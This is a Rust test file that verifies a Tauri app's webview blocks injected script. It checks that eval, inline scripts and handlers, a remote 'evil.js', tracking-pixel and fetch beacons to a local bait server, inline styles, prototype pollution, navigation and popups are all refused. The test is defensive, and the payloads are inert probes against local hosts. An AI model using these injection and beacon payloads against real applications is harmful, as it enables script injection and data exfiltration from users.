//! The content security policy of `tauri.conf.json`, as the real webview
//! (WebKitGTK) enforces it: script that somehow got onto the page cannot run
//! inline code, evaluate strings, fire inline event handlers or load a script
//! from elsewhere. Each refusal is shown to be the policy's by the
//! `securitypolicyviolation` event the webview raises for it.

use crate::harness::*;
use serde_json::Value;

const ATTEMPTS: &str = r#"
const done = arguments[arguments.length - 1];
const violations = [];
document.addEventListener('securitypolicyviolation',
  (e) => violations.push(e.violatedDirective + ' ' + (e.blockedURI || '')));
const r = {};
try { r.eval = String(eval('6 * 7')); } catch (e) { r.eval = e.name; }
try { r.function = String(new Function('return 6 * 7')()); } catch (e) { r.function = e.name; }
window.__inline = 'blocked';
const inline = document.createElement('script');
inline.textContent = "window.__inline = 'ran'";
document.head.append(inline);
window.__handler = 'blocked';
const img = document.createElement('img');
img.setAttribute('onerror', "window.__handler = 'ran'");
img.src = 'data:,not-an-image';
document.body.append(img);
const remote = document.createElement('script');
remote.src = 'http://127.0.0.1:9/evil.js';
remote.onload = () => { r.remote = 'loaded'; };
remote.onerror = () => { r.remote = 'blocked'; };
document.head.append(remote);
setTimeout(() => {
  img.remove(); inline.remove(); remote.remove();
  done({ ...r, inline: window.__inline, handler: window.__handler, violations });
}, 1000);
"#;

#[tokio::test]
async fn the_webview_refuses_inline_script_eval_and_foreign_scripts() {
    let desk = Desk::new();
    let app = desk.launch(&["--demo"]).await;
    app.wait_for("[role=option]", TIMEOUT).await;

    let (r, violations) = attempt(&app, ATTEMPTS, Vec::new()).await;
    assert_eq!(r["eval"], "EvalError", "eval ran: {r}");
    assert_eq!(r["function"], "EvalError", "new Function ran: {r}");
    assert_eq!(r["inline"], "blocked", "an inline <script> ran: {r}");
    assert_eq!(
        r["handler"], "blocked",
        "an inline onerror handler ran: {r}"
    );
    assert_eq!(r["remote"], "blocked", "a foreign script loaded: {r}");

    // The refusals are the policy's: each raised a violation of script-src.
    // (WebKit names the directive's part: -elem for <script>, -attr for handlers.)
    assert_violations(
        &violations,
        &[
            "script-src eval",
            "script-src-elem inline",
            "script-src-attr inline",
            "script-src-elem http://127.0.0.1:9/evil.js",
        ],
    );

    // The page is still the app's and still works.
    app.wait_for("[role=option]", TIMEOUT).await;
    app.quit().await;
}

/// What a hostile script would try next: load a picture or send a request to a
/// server of its choosing (a tracking pixel, a beacon), restyle the page, take
/// the window elsewhere or open another one, pollute the built-ins. `{bait}` is
/// a server that would answer all of it.
const LEAKS: &str = r#"
const done = arguments[arguments.length - 1];
const bait = arguments[0];
const violations = [];
document.addEventListener('securitypolicyviolation',
  (e) => violations.push(e.violatedDirective + ' ' + (e.blockedURI || '')));
const r = {};
const img = new Image();
img.onload = () => { r.image = 'loaded'; };
img.onerror = () => { r.image = 'blocked'; };
img.src = bait + '/pixel.png?read=1';
fetch(bait + '/beacon').then(() => { r.fetch = 'sent'; }, (e) => { r.fetch = e.name; });
const style = document.createElement('style');
style.textContent = 'body { outline: 7px solid rgb(255, 0, 0) }';
document.head.append(style);
const box = document.createElement('div');
box.setAttribute('style', 'width: 123px');
document.body.append(box);
try { r.open = window.open(bait + '/popup.html') === null ? 'null' : 'window'; } catch (e) { r.open = e.name; }
try { Object.prototype.polluted = 1; } catch (e) { /* strict mode throws */ }
r.polluted = ({}).polluted === undefined ? 'refused' : 'polluted';
setTimeout(() => {
  r.outline = getComputedStyle(document.body).outlineWidth;
  r.width = Math.round(box.getBoundingClientRect().width);
  style.remove(); box.remove();
  done({ ...r, violations });
}, 1500);
"#;

#[tokio::test]
async fn the_webview_refuses_remote_images_requests_inline_style_navigation_and_popups() {
    let bait = crate::bait::Bait::start();
    let desk = Desk::new();
    let app = desk.launch(&["--demo"]).await;
    app.wait_for("[role=option]", TIMEOUT).await;

    let (r, violations) = attempt(&app, LEAKS, vec![Value::String(bait.base.clone())]).await;
    assert_eq!(r["image"], "blocked", "a remote image loaded: {r}");
    assert_eq!(r["fetch"], "TypeError", "a request went out: {r}");
    assert_eq!(r["outline"], "0px", "an inline <style> applied: {r}");
    assert_ne!(r["width"], 123, "a style attribute applied: {r}");
    assert_eq!(r["open"], "null", "window.open opened something: {r}");
    assert_eq!(
        r["polluted"], "refused",
        "Object.prototype took a property: {r}"
    );
    let pixel = format!("img-src {}", bait.url("/pixel.png?read=1"));
    let beacon = format!("connect-src {}", bait.url("/beacon"));
    assert_violations(
        &violations,
        &[
            &pixel,
            &beacon,
            "style-src-elem inline",
            "style-src-attr inline",
        ],
    );

    // Navigation is not the CSP's business: the app refuses it in Rust. Each of
    // these would load the bait's page if it were let through.
    let away = bait.url("/away.html");
    for attempt in [
        format!("location.href = {away:?}"),
        format!("location.replace({away:?})"),
        format!("const a = document.createElement('a'); a.href = {away:?}; document.body.append(a); a.click(); a.remove()"),
        format!("const a = document.createElement('a'); a.href = {away:?}; a.target = '_blank'; document.body.append(a); a.click(); a.remove()"),
        "location.href = 'data:text/html,<h1>elsewhere</h1>'".to_string(),
    ] {
        app.eval(&format!("window.__stay = 'here'; {attempt}; return null"))
            .await;
        tokio::time::sleep(std::time::Duration::from_millis(1200)).await;
        let still = app
            .eval("return [String(window.__stay), document.URL, document.querySelectorAll('[role=option]').length > 0]")
            .await;
        assert_eq!(still[0], "here", "the page was replaced after `{attempt}`: {still}");
        assert!(
            still[1].as_str().is_some_and(|u| u.starts_with("tauri://localhost")),
            "the window left the app after `{attempt}`: {still}"
        );
        assert_eq!(still[2], true, "the inbox is gone after `{attempt}`");
    }
    // `window.open` from a real click (WebKit's popup blocker stops scripted
    // ones before the app is asked; a trusted click gets past it).
    app.eval(&format!(
        "const b = document.createElement('button');
         b.id = 'probe-popup'; b.textContent = 'Probe';
         b.style.position = 'fixed'; b.style.top = '0'; b.style.left = '0'; b.style.zIndex = '9999';
         b.addEventListener('click', () => {{
           window.__opened = window.open({away:?}) === null ? 'null' : 'window';
         }});
         document.body.append(b); return null"
    ))
    .await;
    app.click("#probe-popup").await;
    tokio::time::sleep(std::time::Duration::from_millis(1200)).await;
    let opened = app
        .eval("document.getElementById('probe-popup').remove(); return window.__opened")
        .await;
    assert_eq!(opened, "null", "a clicked window.open opened a window");
    // The refusals were the app's own handlers.
    let log = desk.app_log();
    for line in ["navigation away from the app refused", "new window refused"] {
        assert!(log.contains(line), "the app's log lacks {line:?}:\n{log}");
    }
    let windows = app.client().windows().await.expect("window handles");
    assert_eq!(windows.len(), 1, "a second window opened: {windows:?}");
    assert!(
        bait.hits().is_empty(),
        "the bait server was reached: {:?}",
        bait.hits()
    );
    app.quit().await;
}

/// Runs an async script in the page; returns its result and the CSP violations
/// it recorded (`violations`: "directive blocked-uri").
async fn attempt(app: &App<'_>, script: &str, args: Vec<Value>) -> (Value, Vec<String>) {
    let r: Value = app
        .client()
        .execute_async(script, args)
        .await
        .expect("the attempts could not run");
    eprintln!("attempts: {r:#}");
    let violations = r["violations"]
        .as_array()
        .expect("violations")
        .iter()
        .filter_map(|v| v.as_str().map(str::to_owned))
        .collect();
    (r, violations)
}

fn assert_violations(seen: &[String], wanted: &[&str]) {
    for w in wanted {
        assert!(seen.iter().any(|s| s == w), "no violation {w:?}: {seen:?}");
    }
}
